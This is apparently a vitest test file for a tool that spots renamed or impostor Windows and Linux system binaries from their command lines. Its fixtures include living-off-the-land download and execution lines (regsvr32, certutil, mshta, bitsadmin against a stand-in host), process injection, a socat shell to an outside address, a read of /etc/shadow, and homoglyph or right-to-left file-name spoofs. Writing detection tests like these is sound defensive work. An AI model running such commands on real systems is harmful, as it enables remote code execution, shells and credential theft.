import { describe, expect, it } from "vitest";
import type { Request } from "../src/invocations/types.ts";
import { explain } from "../src/pipeline/explain.ts";
import { testCatalog } from "./support/events.ts";

const catalog = testCatalog();

function who(request: Request) {
  const { explanation } = explain(request, catalog);
  const [first] = explanation.invocations;
  return { ...first?.binary, ids: first?.behaviours.map(({ id }) => id) ?? [], text: explanation.verdict.text };
}

const windows = (image: string, rest: string, originalFileName?: string): Request => ({
  platform: "windows",
  image,
  commandLine: `"${image}" ${rest}`,
  ...(originalFileName !== undefined && { originalFileName }),
});

/** What each line shows, whoever runs it. */
const ACTS: readonly (readonly [binary: string, original: string, rest: string, behaviour: string])[] = [
  ["regsvr32.exe", "REGSVR32.EXE", "/s /i:http://h.example/a.sct scrobj.dll", "scriptlet"],
  ["rundll32.exe", "RUNDLL32.EXE", "D:\\t\\a.dll,#1", "export"],
  ["rundll32.exe", "RUNDLL32.EXE", "D:\\t\\a.dat,Start", "export"],
  ["rundll32.exe", "RUNDLL32.EXE", 'javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "script"],
  ["rundll32.exe", "RUNDLL32.EXE", "-sta {558c39ed-52f5-4f1b-9a35-aacb25ab8ffb}", "com-object"],
  ["certutil.exe", "CertUtil.exe", "-urlcache -split -f http://h.example/a D:\\b", "download"],
  ["msiexec.exe", "msiexec.exe", "/qn /i http://h.example/a.msi", "remote-package"],
  ["mavinject.exe", "mavinject.exe", "1234 /INJECTRUNNING D:\\t\\a.dll", "inject"],
  [
    "powershell.exe",
    "PowerShell.EXE",
    "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "encoded-command",
  ],
  ["powershell.exe", "PowerShell.EXE", "-NoProfile -ExecutionPolicy Bypass -c calc", "command"],
  ["mshta.exe", "MSHTA.EXE", "http://h.example/a.hta", "remote-application"],
  ["hh.exe", "HH.exe", "http://h.example/a.chm", "remote-help"],
  ["hh.exe", "HH.exe", "mk:@MSITStore:D:\\t\\a.chm::/a.htm", "moniker"],
  ["cmstp.exe", "CMSTP.EXE", "/s /ns D:\\t\\a.inf", "profile"],
  ["bitsadmin.exe", "bitsadmin.exe", "/transfer j http://h.example/a D:\\b", "download"],
  ["msbuild.exe", "MSBuild.exe", "D:\\t\\a.csproj", "project"],
  ["wmic.exe", "wmic.exe", 'process call create "calc.exe"', "process"],
  ["odbcconf.exe", "odbcconf.exe", "/a {REGSVR D:\\t\\a.dll}", "register"],
  ["installutil.exe", "InstallUtil.exe", "/logfile= /LogToConsole=false /U D:\\t\\a.dll", "uninstall"],
  ["forfiles.exe", "forfiles.exe", '/p C:\\Windows /c "cmd /c calc"', "command"],
];

describe("a copy under another name", () => {
  it.each(ACTS)("%s is known by its original file name: %s %s", (binary, original, rest, behaviour) => {
    const found = who(windows("D:\\t\\svc-host7.exe", rest, original));
    expect(found).toMatchObject({ name: binary, renamed: true, by: "originalFileName" });
    expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
  });

  /** What others are given, too, tells nobody. */
  const silent = ["mshta.exe", "cmstp.exe", "msbuild.exe", "installutil.exe", "forfiles.exe"];
  it.each(ACTS.filter(([binary]) => !silent.includes(binary)))(
    "%s is known by its arguments alone: %s %s",
    (binary, _, rest, behaviour) => {
      const found = who(windows("D:\\t\\svc-host7.exe", rest));
      expect(found).toMatchObject({ name: binary, renamed: true, by: "behaviour" });
      expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
    },
  );
});

describe("a line that another program may well be given", () => {
  it.each([
    "/transfer all D:\\t\\a.cfg D:\\t\\b.cfg",
    "D:\\t\\list.txt,done",
    "C:\\ProgramData\\app\\icons.ico,2",
    '"C:\\Program Files\\App\\layout.dat",Main',
    "--message {registered} /a",
    "call create process",
    "--install http://h.example/update.json",
    "/config=D:\\t\\a.inf --verbose",
    "sign /fd SHA256 /v /f D:\\t\\a.pfx /t http://time.h.example D:\\t\\a.exe",
    "/v /f D:\\t\\a.pfx /t http://time.h.example",
    "-i https://h.example/a.mp4 -c copy D:\\t\\b.mp4",
    "-x 16 -s 16 -d D:\\t https://h.example/a.exe",
  ])("%s tells nothing", (rest) => {
    expect(who(windows("C:\\Program Files\\App\\app.exe", rest))).toMatchObject({ renamed: false, ids: [] });
  });
});

describe("an impostor", () => {
  const RUNS = "D:\\t\\a.dll,Run";
  it.each([
    ["rundl132.exe", RUNS, "rundll32.exe"],
    ["rundIl32.exe", RUNS, "rundll32.exe"],
    ["run\u217ell32.exe", RUNS, "rundll32.exe"],
    ["r\u0435gsvr32.exe", "/s D:\\t\\a.dll", "regsvr32.exe"],
    ["certuti1.exe", "-urlcache -f http://h.example/a D:\\b", "certutil.exe"],
    ["rnshta.exe", "http://h.example/a.hta", "mshta.exe"],
    ["mshta\u200b.exe", "http://h.example/a.hta", "mshta.exe"],
    ["\u202eexe.athsm", "http://h.example/a.hta", "mshta.exe"],
    ["msiexec.exe.exe", "/i http://h.example/a.msi", "msiexec.exe"],
    ["0dbcconf.exe", "/a {REGSVR D:\\t\\a.dll}", "odbcconf.exe"],
    ["dotn\u0435t.exe", "D:\\t\\a.dll --anything", "dotnet.exe"],
    ["\u0435xpand.exe", "\\\\h.example\\x\\a.bat D:\\t\\a.bat /zq:1", "expand.exe"],
  ])("%s hides no behaviour of its twin", (file, rest, twin) => {
    const found = who(windows(`D:\\t\\${file}`, rest));
    expect(found).toMatchObject({ name: twin, renamed: true, by: "behaviour" });
    expect(found.impostor).toBe(`${file} is written to be read as ${twin}`);
    expect(found.ids.length).toBeGreaterThan(0);
  });

  it.each([
    ["svch0st.exe", "svchost.exe"],
    ["1sass.exe", "lsass.exe"],
    ["invoice\u202efdp.exe", "invoiceexe.pdf"],
  ])("%s is named, though the catalogue knows no such program", (file, seenAs) => {
    const found = who(windows(`C:\\Windows\\System32\\${file}`, "-k netsvcs"));
    expect(found.impostor).toBe(`${file} is written to be read as ${seenAs}`);
    expect(found.text).toContain("is written to be read as");
  });

  it.each(["C:\\Windows \\System32\\winsat.exe", "\\\\?\\C:\\Windows \\System32\\kit.exe"])(
    "%s lies in a folder that is none of Windows",
    (image) => {
      expect(who(windows(image, "-q")).impostor).toBe(
        "C:\\Windows with a blank at its end is written to be read as C:\\Windows",
      );
      expect(who(windows("C:\\Windows Kits\\bin\\kit.exe", "-q")).impostor).toBeUndefined();
    },
  );

  it.each([
    "OneDriveInstaller.exe",
    "learn.exe",
    "x64dbg.exe",
    "C0ntoso.exe",
    "MicrosoftEdgeUpdate101.exe",
    "größe.exe",
  ])("%s is none", (file) => {
    expect(who(windows(`C:\\Program Files\\Vendor\\${file}`, "-x 1")).impostor).toBeUndefined();
  });
});

describe("a file that Windows finds by another spelling", () => {
  const RUNS = "D:\\t\\a.dll,Run";
  it.each([
    ["C:\\Windows\\System32\\rundll32.exe . .", RUNS, "rundll32.exe"],
    ["C:\\Windows\\System32\\rundll32.exe::$DATA", RUNS, "rundll32.exe"],
    ["C:rundll32.exe", RUNS, "rundll32.exe"],
    ["C:\\Users\\Public\\notes.txt:rundll32.exe", RUNS, "rundll32.exe"],
    ["C:\\Users\\Public\\notes:rundll32.exe", RUNS, "rundll32.exe"],
    ["C:\\Windows\\System32\\FORFIL~1.EXE", '/c "cmd /c calc"', undefined],
    ["C:\\Windows\\System32\\BITSAD~1.EXE", "/transfer j http://h.example/a D:\\b", "bitsadmin.exe"],
    ["D:\\t\\MICROS~1.EXE", "a.xml b.xml", undefined],
  ])("%s is that file", (file, rest, name) => {
    const request = { platform: "windows", commandLine: `"${file}" ${rest}` } as const;
    if (name === undefined) return expect(who(request).entry).toBeUndefined();
    expect(who(request)).toMatchObject({ name, by: "argv0" });
    expect(who(windows(file, rest))).toMatchObject({ name, by: "image" });
  });

  it("starts no program by an address", () => {
    expect(who({ platform: "windows", commandLine: "ms-settings:reg" }).entry).not.toBe("windows/reg");
  });
});

describe("a place", () => {
  it("gives away a program of the system that lies elsewhere", () => {
    expect(who(windows("C:\\Users\\Public\\rundll32.exe", "D:\\t\\a.dll,Run")).text).toContain(
      "belongs in the Windows",
    );
    expect(who({ platform: "linux", image: "/tmp/.x/find", args: ["find", "/", "-exec", "id", ";"] }).text).toContain(
      "belongs in /usr/bin",
    );
    const environment = {
      platform: "linux",
      image: "/tmp/venv/bin/python3",
      args: ["python3", "-c", "print(1)"],
    } as const;
    expect(who(environment).text).not.toContain("belongs in");
  });

  it.each(["C:\\Windows\\Temp", "\\\\?\\C:\\Users\\Public", "C:\\Windows\\..\\t"])(
    "may lie beside the right one: %s",
    (folder) => {
      expect(who(windows(`${folder}\\rundll32.exe`, "D:\\t\\a.dll,Run")).text).toContain("belongs in the Windows");
    },
  );

  it.each(["\\\\?\\C:\\Windows\\System32", "C:\\Windows\\.\\System32", "C:/Windows/WinSxS/amd64_x"])(
    "is right: %s",
    (folder) => {
      expect(who(windows(`${folder}\\rundll32.exe`, "D:\\t\\a.dll,Run")).text).not.toContain("belongs in");
    },
  );

  it("is no other for what the store installs", () => {
    const store = "C:\\Program Files\\WindowsApps\\Microsoft.PowerShell_7.4.2.0_x64__8wekyb3d8bbwe\\pwsh.exe";
    expect(who(windows(store, "-c Get-Date", "pwsh.dll")).text).not.toContain("belongs in");
  });
});

describe("the first word of a line", () => {
  it("does not name a program whose file bears its original name", () => {
    const request = {
      platform: "windows",
      image: "C:\\Windows\\System32\\notepad.exe",
      commandLine: "msbuild.exe a.csproj",
    } as const;
    expect(who({ ...request, originalFileName: "NOTEPAD.EXE" }).name).toBe("notepad.exe");
  });

  it("names it where the file is unknown, and counts less than the file where it is known", () => {
    expect(who({ platform: "windows", commandLine: "regsvr32 /s a.dll" })).toMatchObject({
      name: "regsvr32.exe",
      by: "argv0",
    });
    const lying = {
      platform: "windows",
      image: "C:\\Windows\\System32\\rundll32.exe",
      commandLine: "notepad.exe D:\\a.dll,Run",
    } as const;
    expect(who(lying)).toMatchObject({ name: "rundll32.exe", by: "image" });
  });
});

const linux = (args: readonly string[], image?: string): Request => ({
  platform: "linux",
  args,
  ...(image !== undefined && { image }),
});

describe("who runs on Linux", () => {
  it.each([
    [["sh", "-c", "id"], "/bin/busybox", "sh"],
    [["wget", "http://h.example/a"], "/bin/busybox", "wget"],
    [["split", "--filter=id", "a"], "/usr/bin/coreutils", "split"],
    [["-bash", "-c", "id"], undefined, "bash"],
    [["python3", "-c", "import os"], "/usr/bin/python3.11 (deleted)", "python"],
    [["/tmp/k", "-fsSL", "http://h.example/a", "-o", "/tmp/b"], "/tmp/k", "curl"],
    [["/tmp/k", "-qO-", "http://h.example/a"], "/tmp/k", "wget"],
  ])("%j of %s", (args, image, name) => {
    expect(who(linux(args, image)).name).toBe(name);
  });

  it("is no program of a file of many that was started by a name which nobody knows", () => {
    expect(who(linux(["ls", "/srv"], "/bin/busybox"))).toMatchObject({ name: "ls", ids: [] });
  });

  it("is not a thread of the kernel, whatever it calls itself", () => {
    for (const request of [linux(["[kworker/0:1]", "-d"], "/tmp/k"), linux(["/usr/bin/[kswapd0]", "-B"])])
      expect(who(request).text).toContain("read as a thread of the kernel");
    expect(who(linux(["[", "-f", "/srv/a", "]"], "/usr/bin/[")).text).not.toContain("kernel");
  });
});

it("knows a copy by the original file name of a language's resources", () => {
  expect(who(windows("D:\\t\\a.exe", "/y D:\\t\\b.dat /d D:\\t\\c.dat", "esentutl.exe.MUI"))).toMatchObject({
    name: "esentutl.exe",
    renamed: true,
    by: "originalFileName",
    ids: ["windows/esentutl/copy"],
  });
});

describe("a pattern that a shell makes a program of", () => {
  const typed = (commandLine: string) => who({ platform: "linux", commandLine, as: "typed" });

  it.each([
    ["/usr/bin/apt-g?t update", "apt-get"],
    ["/usr/bin/dp[k]g -i /tmp/a.deb", "dpkg"],
    ["/???/b[i]n/soca? tcp:203.0.113.9:443 exec:sh", "socat"],
    ["/usr/local/bin/rclon* copy /srv/x far:y", "rclone"],
    ["/usr/bin/zc?t -f /etc/shadow", "zcat"],
  ])("is the one program of the catalogue that it fits: %s", (line, name) => {
    expect(typed(line)).toMatchObject({ name });
    expect(typed(line).ids).not.toEqual([]);
  });

  it.each([
    "/usr/bin/p?g -i a",
    "/usr/bin/*t a",
    "/opt/x/apt-g?t update",
    "./apt-g?t update",
    "apt-g?t update",
    "/usr/bin/a* b",
  ])("is nobody where it fits several, fits hardly anything said, or stands elsewhere: %s", (line) =>
    expect(typed(line).ids).toEqual([]),
  );
});
